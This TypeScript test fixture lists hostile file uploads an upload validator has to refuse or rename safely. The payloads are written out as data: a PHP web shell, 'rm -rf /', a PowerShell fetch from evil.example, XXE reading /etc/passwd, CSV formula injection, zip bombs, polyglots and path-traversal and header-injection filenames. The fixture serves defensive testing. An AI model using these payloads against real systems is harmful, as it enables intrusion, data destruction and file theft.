import { deflateSync } from 'node:zlib'

/**
 * A file that somebody might attach, with what must become of it: refused, or kept as what its
 * bytes are.
 */
export type HostileFile = {
  title: string
  name: string
  bytes: Buffer
  outcome: 'refused' | { kind: string; name: string }
}

const text = (content: string): Buffer => Buffer.from(content, 'utf8')
const latin = (content: string): Buffer => Buffer.from(content, 'latin1')

export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
)
export const PDF = latin(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
)
const GIF = latin(
  'GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;',
)
const JPEG = Buffer.from(
  '/9j/2wBDABQODxIPDRQSEBIXFRQYHjIhHhwcHj0sLiQySUBMS0dARkVQWnNiUFVtVkVGZIhlbXd7gYKBTmCNl4x9lnN+gXz/2wBDARUXFx4aHjshITt8U0ZTfHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHz/wAARCAACAAIDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAb/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFAEBAAAAAAAAAAAAAAAAAAAAAP/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/ALMAH//Z',
  'base64',
)
const HTML = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
/** The signature that every scanner knows, in halves so that this file is not taken for it. */
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

/** A local entry of a zip, stored as it is. */
function zipped(...names: readonly string[]): Buffer {
  return Buffer.concat(
    names.map((name) => {
      const header = Buffer.alloc(30)
      header.write('PK\x03\x04', 0, 'latin1')
      header.writeUInt16LE(Buffer.byteLength(name), 26)
      return Buffer.concat([header, Buffer.from(name)])
    }),
  )
}

const refused = (title: string, name: string, bytes: Buffer): HostileFile => ({
  title,
  name,
  bytes,
  outcome: 'refused',
})
const kept = (
  title: string,
  name: string,
  bytes: Buffer,
  kind: string,
  as: string,
): HostileFile => ({ title, name, bytes, outcome: { kind, name: as } })

const PROGRAMS: readonly HostileFile[] = [
  refused('a Windows program', 'factura.exe', latin('MZ\x90\x00\x03\x00\x00\x00')),
  refused(
    'a Windows program that says it is a PDF',
    'factura.pdf',
    latin('MZ\x90\x00\x03\x00\x00\x00'),
  ),
  refused(
    'a Linux program that says it is a picture',
    'foto.png',
    latin('\x7fELF\x02\x01\x01\x00'),
  ),
  refused('a macOS program', 'app', latin('\xcf\xfa\xed\xfe\x07\x00\x00\x01')),
  refused('a Java class', 'reporte.pdf', latin('\xca\xfe\xba\xbe\x00\x00\x00\x34')),
  refused('a shell script', 'instalar.sh', text('#!/bin/sh\nrm -rf /\n')),
  refused('a batch file', 'abrir.bat', text('@echo off\r\ndel *.*\r\n')),
  refused('a PowerShell script', 'abrir.ps1', text('Invoke-WebRequest evil.example')),
  refused('a Visual Basic script', 'abrir.vbs', text('CreateObject("WScript.Shell").Run "calc"')),
  refused('JavaScript', 'menu.js', text('alert(1)')),
  refused(
    'an HTML application',
    'menu.hta',
    text('<script>new ActiveXObject("WScript.Shell")</script>'),
  ),
  refused('a Windows shortcut', 'junta.lnk', latin('L\x00\x00\x00\x01\x14\x02\x00')),
  refused('an Internet shortcut', 'junta.url', text('[InternetShortcut]\nURL=file:///etc/passwd')),
  refused('a macro workbook', 'ventas.xlsm', zipped('xl/workbook.xml', 'xl/vbaProject.bin')),
  refused(
    'a macro workbook that says it is none',
    'ventas.xlsx',
    zipped('xl/workbook.xml', 'xl/vbaProject.bin'),
  ),
  refused(
    'a document with macros',
    'carta.docx',
    zipped('word/document.xml', 'word/vbaProject.bin'),
  ),
  refused(
    'a document with a program inside',
    'carta.docx',
    zipped('word/document.xml', 'word/embeddings/setup.exe'),
  ),
  refused('an old Excel file', 'ventas.xls', latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')),
  refused('a PHP file', 'index.php', text('<?php system($_GET["c"]); ?>')),
]

const PAGES: readonly HostileFile[] = [
  refused('a web page', 'aviso.html', text(HTML)),
  refused('a web page that says it is a picture', 'aviso.png', text(HTML)),
  refused('a web page that says it is a PDF', 'aviso.pdf', text(HTML)),
  refused('a web page that says it is text', 'aviso.txt', text(HTML)),
  refused('a web page that says it is a table', 'aviso.csv', text(HTML)),
  refused('a web page that says it is XML', 'aviso.xml', text(HTML)),
  refused('a web page after many spaces', 'aviso.txt', text(`${' \n'.repeat(500)}${HTML}`)),
  refused('a web page after a byte order mark', 'aviso.txt', text(`\uFEFF${HTML}`)),
  refused(
    'a web page in XML dress',
    'aviso.xml',
    text(
      '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>',
    ),
  ),
  refused('a drawing with a script', 'logo.svg', text(SVG)),
  refused('a drawing that says it is a picture', 'logo.png', text(SVG)),
  refused('a drawing that says it is XML', 'logo.xml', text(`<?xml version="1.0"?>${SVG}`)),
  refused(
    'a drawing with a prefix',
    'logo.xml',
    text('<a:svg xmlns:a="http://www.w3.org/2000/svg"><a:script>1</a:script></a:svg>'),
  ),
  refused(
    'a compressed drawing',
    'logo.svgz',
    Buffer.concat([latin('\x1f\x8b\x08\x00'), deflateSync(SVG)]),
  ),
  refused(
    'XML with entities that multiply',
    'bomba.xml',
    text('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ja"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'),
  ),
  refused(
    'XML that reads a file',
    'factura.xml',
    text('<?xml version="1.0"?><!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><f>&x;</f>'),
  ),
  refused(
    'XML with a style sheet',
    'factura.xml',
    text('<?xml version="1.0"?><?xml-stylesheet href="evil.xsl"?><f/>'),
  ),
  refused(
    'a style sheet that transforms',
    'factura.xml',
    text('<stylesheet xmlns="http://www.w3.org/1999/XSL/Transform"/>'),
  ),
  refused(
    'a page saved with its parts',
    'pagina.mhtml',
    text('MIME-Version: 1.0\nContent-Type: multipart/related'),
  ),
]

const CONTAINERS: readonly HostileFile[] = [
  refused('nothing at all', 'vacio.pdf', Buffer.alloc(0)),
  refused('nothing at all, as text', 'vacio.txt', Buffer.alloc(0)),
  refused('only zeros', 'ceros.txt', Buffer.alloc(4_096)),
  refused('a zip', 'fotos.zip', zipped('foto.png')),
  refused('a zip that climbs out of its folder', 'fotos.docx', zipped('../../etc/passwd')),
  refused('a zip within a zip', 'fotos.xlsx', zipped('otra.zip')),
  refused(
    'a zip that would swell',
    'bomba.zip',
    Buffer.concat([zipped('ceros.bin'), deflateSync(Buffer.alloc(5_000_000))]),
  ),
  refused('a gzip', 'datos.csv', latin('\x1f\x8b\x08\x00\x00\x00\x00\x00')),
  refused('a RAR', 'fotos.pdf', latin('Rar!\x1a\x07\x01\x00')),
  refused('a 7z', 'fotos.pdf', latin('7z\xbc\xaf\x27\x1c')),
  refused(
    'text in UTF-16, which hides from filters',
    'aviso.txt',
    Buffer.from(`\uFEFF${HTML}`, 'utf16le'),
  ),
  refused('a name that promises nothing', 'aviso', text('hola')),
]

const POLYGLOTS: readonly HostileFile[] = [
  kept(
    'a GIF that is also JavaScript',
    'foto.js',
    Buffer.concat([GIF, text('/*=1;alert(1)//')]),
    'gif',
    'foto.gif',
  ),
  kept(
    'a PDF with a page behind it',
    'aviso.html',
    Buffer.concat([PDF, text(HTML)]),
    'pdf',
    'aviso.pdf',
  ),
  kept(
    'a PNG with a page in it, called a page',
    'aviso.html',
    Buffer.concat([PNG, text(HTML)]),
    'png',
    'aviso.png',
  ),
  kept(
    'a JPEG with PHP in it, called PHP',
    'foto.jpg.php',
    Buffer.concat([JPEG, text('<?php system("id"); ?>')]),
    'jpeg',
    'foto.jpg.jpg',
  ),
  kept(
    'a JPEG that is also a zip',
    'foto.jar',
    Buffer.concat([JPEG, zipped('META-INF/MANIFEST.MF')]),
    'jpeg',
    'foto.jpg',
  ),
  kept('a PNG that says it is a program', 'foto.exe', PNG, 'png', 'foto.png'),
  kept(
    'text that talks of scripts',
    'nota.txt',
    text('Escriban <script>alert(1)</script> en el buscador'),
    'txt',
    'nota.txt',
  ),
  kept(
    'a table that would calculate',
    'ventas.csv',
    text("=cmd|'/C calc'!A0,1\n"),
    'csv',
    'ventas.csv',
  ),
  kept(
    'the signature that scanners know, where there is none',
    'nota.txt',
    text(EICAR),
    'txt',
    'nota.txt',
  ),
]

const NAMES: readonly HostileFile[] = [
  kept('a name that climbs', '../../../../etc/cron.d/evil.png', PNG, 'png', 'evil.png'),
  kept(
    'a name that climbs on Windows',
    '..\\..\\Windows\\system32\\evil.png',
    PNG,
    'png',
    'evil.png',
  ),
  kept('an absolute name', '/etc/passwd.png', PNG, 'png', 'passwd.png'),
  kept('a name written backwards', 'factura\u202Egnp.exe', PNG, 'png', 'facturagnp.png'),
  kept('a name with invisible letters', 'fac\u200Btu\u2060ra.png', PNG, 'png', 'factura.png'),
  kept('a name of dots', '....png', PNG, 'png', 'archivo.png'),
  kept('a name that is a device', 'CON.png', PNG, 'png', '_CON.png'),
  kept('a name with two endings', 'factura.pdf.exe', PDF, 'pdf', 'factura.pdf.pdf'),
  kept(
    'a name with an ending after spaces',
    'factura.png                    .exe',
    PNG,
    'png',
    'factura.png.png',
  ),
  kept('a name that would split the list', 'a,b,c.png', PNG, 'png', 'a_b_c.png'),
  kept(
    'a name that would split a header',
    'a\r\nSet-Cookie: x=1.png',
    PNG,
    'png',
    'a_0D_0ASet-Cookie_ x=1.png',
  ),
  kept('a name in quotes', 'a"; filename="b.exe', PNG, 'png', 'a_22_ filename=_22b.png'),
  kept(
    'a name of markup',
    '<img src=x onerror=alert(1)>.png',
    PNG,
    'png',
    '_img src=x onerror=alert(1)_.png',
  ),
  kept(
    'a name in other letters',
    'información ñandú 旅行.png',
    PNG,
    'png',
    'información ñandú 旅行.png',
  ),
  kept('a name with escapes', '%2e%2e%2fevil.png', PNG, 'png', '_2e_2e_2fevil.png'),
  kept('a huge name', `${'largo'.repeat(60)}.png`, PNG, 'png', `${'largo'.repeat(20)}.png`),
  kept('a name of faces', `${'🏖'.repeat(150)}.png`, PNG, 'png', `${'🏖'.repeat(100)}.png`),
]

export const HOSTILE_FILES: readonly HostileFile[] = [
  ...PROGRAMS,
  ...PAGES,
  ...CONTAINERS,
  ...POLYGLOTS,
  ...NAMES,
]
